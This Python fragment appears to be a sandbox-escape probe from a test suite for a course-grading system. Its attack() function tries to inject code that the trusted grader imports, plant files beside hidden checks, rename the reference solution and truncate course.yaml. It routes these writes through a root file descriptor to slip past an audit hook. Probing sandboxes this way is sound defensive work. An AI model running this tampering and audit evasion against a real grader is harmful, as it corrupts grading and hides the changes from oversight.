# Rewriting the course: append a check to the public checks.py (the trusted parent imports it on the
# next `grader grade`), plant a file beside the hidden checks, and rename the reference away, all
# relative to an O_PATH descriptor of '/' (so the audit hook sees no path it could judge).

PLANTED = """

# planted by a student
import pathlib as _pathlib
_pathlib.Path({marker!r}).write_text("the grader imported a student's code")
"""


def attack():
    marker = os.path.join(TARGETS["drop_dir"], f"planted-check-imported-{TARGETS['token']}")
    root = root_descriptor()
    if root is None:
        return
    course = at_root(TARGETS["course_dir"])

    def at(name):
        return f"{course}/{name}"

    public, hidden = f"assignments/{TARGETS['assignment']}", f"solutions/{TARGETS['assignment']}"
    answer = f"{hidden}/{TARGETS['assignment']}.py"

    def append(name, text):
        fd = os.open(at(name), os.O_WRONLY | os.O_APPEND, dir_fd=root)
        try:
            return os.write(fd, text.encode())
        finally:
            os.close(fd)

    def create(name):
        fd = os.open(at(name), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=root)
        os.close(fd)

    attempt(
        f"append a check to {public}/checks.py", lambda: append(f"{public}/checks.py", PLANTED.format(marker=marker))
    )
    attempt(
        f"append to {hidden}/checks_hidden.py",
        lambda: append(f"{hidden}/checks_hidden.py", PLANTED.format(marker=marker)),
    )
    attempt(f"create {hidden}/planted.py", lambda: create(f"{hidden}/planted.py"))
    attempt(
        f"rename {answer} away",
        lambda: os.rename(at(answer), at(f"{hidden}/gone.py"), src_dir_fd=root, dst_dir_fd=root),
    )
    attempt(
        f"mkdir {public}/__pycache__ (for a forged checks.*.pyc the parent would load)",
        lambda: os.mkdir(at(f"{public}/__pycache__"), dir_fd=root),
    )
    attempt("truncate course.yaml", lambda: os.close(os.open(at("course.yaml"), os.O_WRONLY | os.O_TRUNC, dir_fd=root)))
